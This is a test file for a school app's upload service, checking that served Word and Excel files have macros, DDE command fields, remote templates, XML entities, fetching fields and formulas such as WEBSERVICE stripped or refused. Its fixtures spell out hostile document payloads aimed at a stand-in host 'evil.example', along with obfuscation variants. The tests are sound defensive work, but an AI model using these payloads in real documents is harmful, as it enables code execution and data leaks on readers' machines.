import { buffer } from 'node:stream/consumers';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { fromBufferPromise } from 'yauzl';
import { UPLOAD_MESSAGES } from '#contract/errors.ts';
import { buildTestApp, type TestApp } from '#test/app.ts';
import { createSchool, type TestSchool } from '#test/factories.ts';
import { fetchFile, sendFile, uploadFile } from '#test/files.ts';
import { officeWith } from '#test/pictures.ts';

/** Served documents contain nothing that runs, or that fetches something when it is opened. */

let test: TestApp;
let school: TestSchool;
beforeAll(async () => {
  test = await buildTestApp();
  school = await createSchool(test);
});
afterAll(() => test.close());

const EVIL = 'https://evil.example/t.dotm';
const list = (...attributes: readonly string[]) =>
  `<Relationships>${attributes.map((each, at) => `<Relationship Id="rId${at}" ${each}/>`).join('')}</Relationships>`;
const external = (kind: string, target: string) =>
  `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"`;

async function servedPart(part: string, content: string | Buffer): Promise<string> {
  const kind = part.startsWith('xl/') ? 'xlsx' : 'docx';
  const { url } = await uploadFile(
    test,
    school.owner,
    officeWith({ [part]: content }, { kind }),
    `a.${kind}`,
  );
  const zip = await fromBufferPromise((await fetchFile(test, url)).rawPayload, { lazyEntries: true });
  for await (const entry of zip.eachEntry())
    if (entry.fileName === part) return String(await buffer(await zip.openReadStreamPromise(entry)));
  return '';
}

it.each([
  ['a template', external('attachedTemplate', EVIL)],
  ['a picture', external('image', EVIL)],
  ['an object', external('oleObject', `mhtml:${EVIL}!x`)],
  ['a frame', external('frame', '\\\\evil.example\\share')],
  ['a workbook', external('externalLinkPath', '//evil.example/x.xlsx')],
  ['a link that runs something', external('hyperlink', 'ms-word:ofe|u|https://evil.example')],
  ['a mode written as references', `Type="t/image" Target="${EVIL}" TargetMode="Extern&#97;l"`],
  ['an address without a mode', `Type="t/image" Target="${EVIL}"`],
  ['an element with a prefix', `Type='t/image' Target = '${EVIL}' TargetMode='External'`],
])('a document does not fetch %s from elsewhere', async (_, attributes) => {
  const part = 'word/_rels/settings.xml.rels';
  const served = await servedPart(part, list(attributes, 'Type="t/styles" Target="styles.xml"'));
  expect(served).not.toContain('evil');
  expect(served).toContain('Target="NULL"');
  expect(served).toContain('Target="styles.xml"');
});

it('keeps links that a reader follows', async () => {
  const targets = [
    'https://school.example/?a=1&#38;b=2',
    'mailto:office@school.example',
    'tel:+4420',
    'menu.pdf',
    '#top',
  ];
  const served = await servedPart(
    'word/_rels/document.xml.rels',
    list(...targets.map((target) => external('hyperlink', target))),
  );
  for (const target of targets) expect(served).toContain(`Target="${target}"`);
});

const DTD = '<!DOCTYPE d [<!ENTITY a SYSTEM "https://evil.example">]><d>&a;</d>';
const field = (...pieces: readonly string[]) =>
  `<w:p xmlns:w="w">${pieces.map((piece) => `<w:instrText xml:space="preserve">${piece}</w:instrText>`).join('')}</w:p>`;
const mark = (kind: string) => `<w:fldChar w:fldCharType="${kind}"/>`;
const around = (instruction: string) =>
  `<w:p xmlns:w="w">${mark('begin')}${instruction}${mark('separate')}<w:t>shown before</w:t>${mark('end')}</w:p>`;
const fetching = (...pieces: readonly string[]) => around(field(...pieces));
const link = ' HYPERLINK "https://school.example" ';
const cell = (formula: string) => `<c r="B2"><f>${formula}</f><v>shown before</v></c>`;
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');

it.each<readonly [string, Record<string, string | Buffer>]>([
  ['macros', { 'word/vbaProject.bin': 'x' }],
  [
    'macros under another name',
    { 'word/_rels/document.xml.rels': list('Type="t/vbaProject" Target="menu.bin"') },
  ],
  ['a web page to be taken in', { 'word/_rels/document.xml.rels': list('Type="t/aFChunk" Target="a.mht"') }],
  ['a document with macros in it', { 'word/embeddings/a.xlsm': officeWith({ 'xl/vbaProject.bin': 'x' }) }],
  ['a document type', { 'word/document.xml': DTD }],
  ['one after a comment', { 'word/numbering.xml': `<?xml version="1.0"?>\n<!-- <d> -->${DTD}` }],
  ['a packed program', { 'word/embeddings/oleObject1.bin': utf16('\u0001Ole10Native cmd.exe') }],
  ['a field that starts a program', { 'word/document.xml': field('DDEAUTO c:\\cmd.exe "/k calc"') }],
  ['one in pieces', { 'word/footer1.xml': field(' D', 'DE excel "a"') }],
  ['a simple one', { 'word/document.xml': '<w:p xmlns:w="w"><w:fldSimple w:instr=" DDE excel a "/></w:p>' }],
  [
    'a cell that asks a program',
    { 'xl/externalLinks/externalLink1.xml': '<e><ddeLink ddeService="cmd"/></e>' },
  ],
  ['a field of a part of another name', { 'word/document.dat': field('DDE excel a') }],
  ['a formula that starts a program', { 'xl/worksheets/sheet1.xml': cell("cmd|'/C calc'!A0") }],
  ['one of a name', { 'xl/workbook.xml': '<d><definedName>CALL("Kernel32")</definedName></d>' }],
  ['a formula in CDATA', { 'xl/worksheets/sheet1.xml': cell('<![CDATA[WEBSERVICE("a")]]>') }],
  ['a formula in two pieces', { 'xl/worksheets/sheet1.xml': cell('WEB<!-- -->SERVICE("a")') }],
  ['a formula in UTF-16 that fetches', { 'xl/worksheets/sheet1.xml': utf16(cell('WEBSERVICE("a")')) }],
  ['one in UTF-16', { 'customXml/item1.xml': utf16(DTD) }],
  ['a field written as references', { 'word/document.xml': field('&#68;DE excel a') }],
  ['a field whose words are in CDATA', { 'word/document.xml': field('<![CDATA[DDE excel a]]>') }],
  ['a field with an element in its words', { 'word/document.xml': field('D<b/>DE excel a') }],
  ['a field of another part', { 'elsewhere/a.xml': field('DDE excel a') }],
  [
    'a field with marks of another kind',
    { 'word/document.xml': field('D') + mark('separate') + field('DE excel a') },
  ],
  [
    'a field in UTF-16 that fetches',
    { 'word/document.xml': utf16(fetching('INCLUDETEXT "https://evil.example"')) },
  ],
])('a document with %s is refused with a sentence', async (_, parts) => {
  const refused = await sendFile(test, school.owner, officeWith(parts), 'a.docx');
  expect([refused.status, refused.error().error_message]).toEqual([400, UPLOAD_MESSAGES.fileRuns]);
});

it.each([
  ['INCLUDEPICTURE', fetching(' INCLUDEPICTURE  "https://evil.example/a.png" \\* MERGEFORMATINET ')],
  ['one in pieces', fetching(' INC', 'LUDETEXT', ' "https://evil.example/a.docx" ')],
  ['one written as references', fetching(' &#73;NCLUDEPICTURE "https://evil.example"')],
  ['LINK', fetching('LINK Excel.Sheet.12 "\\\\evil.example\\a.xlsx" "" \\a')],
  ['IMPORT', fetching(' IMPORT "https://evil.example/a.png"')],
  ['a database', fetching(' DATABASE \\d "https://evil.example" ')],
  ['one in another', around(`${field(' IF 1 = 1 ')}${fetching(' INCLUDETEXT "https://evil.example"')}`)],
  ['one in what another has shown', `${fetching(link)}${fetching(' INCLUDETEXT "https://evil.example"')}`],
  [
    'a simple one',
    `<w:p xmlns:w="w"><w:fldSimple w:instr=' INCLUDEPICTURE "https://evil.example"'><w:t>shown before</w:t></w:fldSimple></w:p>`,
  ],
  [
    'one that was deleted',
    fetching('INCLUDETEXT "https://evil.example"').replaceAll('instrText', 'delInstrText'),
  ],
  [
    'a drawing',
    '<w:p xmlns:w="w"><v:imagedata xmlns:v="v" o:href="https://evil.example/a.png" src="a.png"/><w:t>shown before</w:t></w:p>',
  ],
])('a document keeps what a field shows, and nothing that it would fetch: %s', async (_, part) => {
  for (const name of ['word/document.xml', 'word/footer1.xml', 'elsewhere/a.xml']) {
    const served = await servedPart(name, part);
    expect(served).not.toContain('evil');
    expect(served).toContain('shown before');
  }
});

it('keeps the other fields of a document that has one that fetches', async () => {
  const pages = '<w:p xmlns:w="w"><w:fldSimple w:instr=" PAGE "/></w:p>';
  const parts = [
    fetching(link),
    fetching(' INCLUDETEXT "a" '),
    pages,
    fetching(' MERGEFIELD Link '),
    '<w:instrText xml:space="preserve"/><w:t/>',
  ];
  const served = await servedPart('word/document.xml', `<w:body xmlns:w="w">${parts.join('')}</w:body>`);
  for (const kept of [link, 'w:instr=" PAGE "', ' MERGEFIELD Link ']) expect(served).toContain(kept);
  expect(served).not.toContain('INCLUDETEXT');
});

it('a workbook asks nobody for its data as it opens', async () => {
  const part =
    '<connections><connection id="1" refreshOnLoad="1" odcFile="https://evil.example/a.odc" interval="5"><webPr url="https://evil.example" editPage="https://evil.example"/><textPr sourceFile="\\\\evil.example\\a.csv"/><dbPr connection="Provider=evil"/><x15:oledbPr connection="Provider=evil"/></connection></connections>';
  expect(await servedPart('xl/connections.xml', part)).not.toMatch(/evil|refreshOnLoad="1"|interval="5"/);
  const table = '<queryTable name="a" connectionId="1" refreshOnLoad="1"/>';
  expect(await servedPart('xl/queryTables/queryTable1.xml', table)).toContain('refreshOnLoad="0"');
  const drawn = '<xml><v:imagedata xmlns:v="v" o:href="https://evil.example/a.png"/></xml>';
  expect(await servedPart('xl/drawings/vmlDrawing1.vml', drawn)).not.toContain('evil');
});

it.each([
  ['IMAGE', cell('_xlfn.IMAGE("https://evil.example/?"&amp;A1)')],
  ['WEBSERVICE', cell('IF(A1=1,WEBSERVICE("https://evil.example"),"")')],
  ['one written as references', cell('&#87;EBSERVICE ("https://evil.example")')],
  ['one that another calls', cell('_xlfn.MAP(A1,_xleta.WEBSERVICE)&amp;"evil"')],
  ['a server of data', cell('RTD("evil.server",,"a")')],
  ['a cell elsewhere', cell("SUM('https://evil.example/[a.xlsx]Sheet1'!A1)")],
  ['a share', cell("'\\\\evil.example\\[a.xlsx]Sheet1'!A1")],
  [
    'one of several cells',
    `<c><f t="shared" ref="A1:A2" si="0">WEBSERVICE("https://evil.example")</f><v>shown before</v></c><c><f t="shared" si="0"/><v>3</v></c>`,
  ],
])('a workbook keeps what a formula has shown, and nothing that it would fetch: %s', async (_, cells) => {
  const other = cell('SUM(A1:A9)');
  for (const name of ['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet1.bin']) {
    const served = await servedPart(name, `<worksheet>${cells}${other}</worksheet>`);
    expect(served).not.toMatch(/evil|si="0"/);
    expect(served.match(/shown before/g)).toHaveLength(2);
    expect(served).toContain(other);
  }
});

it('a workbook keeps formulas that fetch nothing', async () => {
  const links = 'HYPERLINK("https://school.example/webservice(1)","Menu")';
  const formulas = [
    links,
    "'a|b'!A1&amp;Image!B2",
    'Table1[[#This Row],[a|b]]',
    'IF(A1&gt;2,"=cmd|",IMAGES(1))',
  ];
  const rule = '<x14:formula1><xm:f>Sheet2!$A$1:$A$9</xm:f></x14:formula1>';
  const sheet = `<worksheet>${formulas.map(cell).join('')}<f t="shared" si="0"/>${rule}</worksheet>`;
  expect(await servedPart('xl/worksheets/sheet1.xml', sheet)).toBe(sheet);
  // A sheet that is read in several pieces.
  const large = `<worksheet>${`${cell('SUM(A1:A9)')}\n`.repeat(5000)}</worksheet>`;
  expect(await servedPart('xl/worksheets/sheet1.xml', large)).toBe(large);
});

it('a workbook does not fetch the pictures that its cells have shown', async () => {
  const part = 'xl/richData/_rels/rdRichValueWebImage.xml.rels';
  const served = await servedPart(
    part,
    list(external('hyperlink', EVIL), 'Type="t/image" Target="../a.png"'),
  );
  expect(served).not.toContain('evil');
  expect(served).toContain('Target="../a.png"');
});

it('names, rules and tables of a workbook fetch nothing', async () => {
  for (const element of ['definedName', 'formula', 'formula1', 'calculatedColumnFormula']) {
    const part = `<d><${element}>WEBSERVICE("https://evil.example")</${element}></d>`;
    expect(await servedPart('xl/workbook.xml', part)).toBe(`<d><${element}>0</${element}></d>`);
  }
});

it('takes equations, and fields that only look so', async () => {
  const parts = {
    'word/embeddings/oleObject1.bin': utf16('Equation Native'),
    'word/document.xml': field(' HYPERLINK "https://school.example/dde" ', 'MERGEFIELD Added '),
  };
  expect((await sendFile(test, school.owner, officeWith(parts), 'a.docx')).status).toBe(201);
});

it('accepts a workbook with what Power Query keeps in one element', async () => {
  const queries = `<DataMashup>${'UEsDBBQABgAI'.repeat(200_000)}</DataMashup>`;
  expect(await servedPart('xl/customXml/item1.xml', queries)).toBe(queries);
});

it('takes a document with parts in UTF-16 and a long comment first', async () => {
  const comment = `<!--${'x'.repeat(30_000)}-->`;
  expect(await servedPart('customXml/item1.xml', `<?xml version="1.0"?>${comment}<d/>`)).toContain('<d/>');
  const parts = { 'customXml/item1.xml': utf16('<?xml version="1.0" encoding="utf-16"?><d/>') };
  expect((await sendFile(test, school.owner, officeWith(parts), 'a.docx')).status).toBe(201);
});
